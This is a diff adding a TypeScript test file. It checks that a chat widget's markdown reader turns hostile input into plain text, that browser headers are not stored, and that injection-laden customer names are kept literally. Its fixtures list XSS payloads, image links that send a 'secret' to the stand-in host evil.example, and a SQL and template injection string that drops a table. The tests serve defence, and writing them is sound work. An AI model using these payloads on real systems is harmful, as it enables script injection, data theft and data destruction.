@@ -1,0 +1,74 @@
+import { describe, expect, test } from "bun:test";
+import { type Piece, readMarkdown } from "#domain/text/markdown.ts";
+import { SQLITE } from "../../db/testing/engines.ts";
+import { REQUESTED_BY } from "../../http/same-origin.ts";
+import { newSessionKey, walkIn } from "../../testing/open-chat.ts";
+import { startWorld } from "../../testing/test-server.ts";
+import { everythingIn } from "../../db/testing/all-rows-as-text.ts";
+
+describe("text that would be more than text", () => {
+  test.each([
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "![leak](https://evil.example/?q=secret)",
+    "![leak][1]\n\n[1]: https://evil.example/?q=secret",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](vbscript:msgbox)",
+    "[click](//evil.example)",
+    "[click](\\\\evil.example)",
+    "[click](java\nscript:alert(1))",
+    "[click](&#106;avascript:alert(1))",
+    '[click](https://a.example" onmouseover="alert(1))',
+    "<a href='javascript:alert(1)'>click</a>",
+    "<svg/onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "<https://evil.example/`<img>`>",
+  ])("%p becomes words, and links that lead nowhere but by http, https or mail", (text) => {
+    const hrefs = readMarkdown(text).flatMap(linksIn);
+
+    expect(hrefs.every((href) => /^(https?:\/\/[^\s"<>]+|mailto:[^\s"<>]+)$/i.test(href))).toBe(true);
+    expect(JSON.stringify(readMarkdown(text))).not.toMatch(/"kind":"(img|html)"/);
+  });
+
+  test("what a browser sends about itself is kept nowhere", async () => {
+    await using world = await startWorld(await SQLITE.open());
+    const canary = "<b>canary-in-a-header</b>";
+    const response = await fetch(`${world.origin}/trpc/session.open`, {
+      method: "POST",
+      headers: {
+        origin: world.origin,
+        "content-type": "application/json",
+        "x-widget-key": world.widgetKey,
+        [REQUESTED_BY.name]: REQUESTED_BY.value,
+        "user-agent": canary,
+        referer: `https://shop.example/?token=${encodeURIComponent(canary)}`,
+        "accept-language": canary,
+        "x-forwarded-for": canary,
+        cookie: "other=canary-in-a-header",
+      },
+      body: JSON.stringify({ key: newSessionKey(), name: "Maria", email: "maria@example.com" }),
+    });
+
+    expect(response.status).toBe(200);
+    expect(await everythingIn(world.house.store)).not.toContain("canary");
+  });
+
+  test("marks of a query are letters of a name", async () => {
+    await using world = await startWorld(await SQLITE.open());
+    const name = `Robert'); drop table session; --"$1 {{7*7}} \${7*7}`;
+
+    const { token } = await walkIn(world, name);
+    const { customer } = await world.visitor(token).session.current.query();
+
+    expect(customer.name).toBe(name);
+  });
+});
+
+function linksIn(piece: Piece): readonly string[] {
+  if (typeof piece === "string") return [];
+  const below = piece.pieces.flatMap(linksIn);
+  return piece.href === null ? below : [piece.href, ...below];
+}
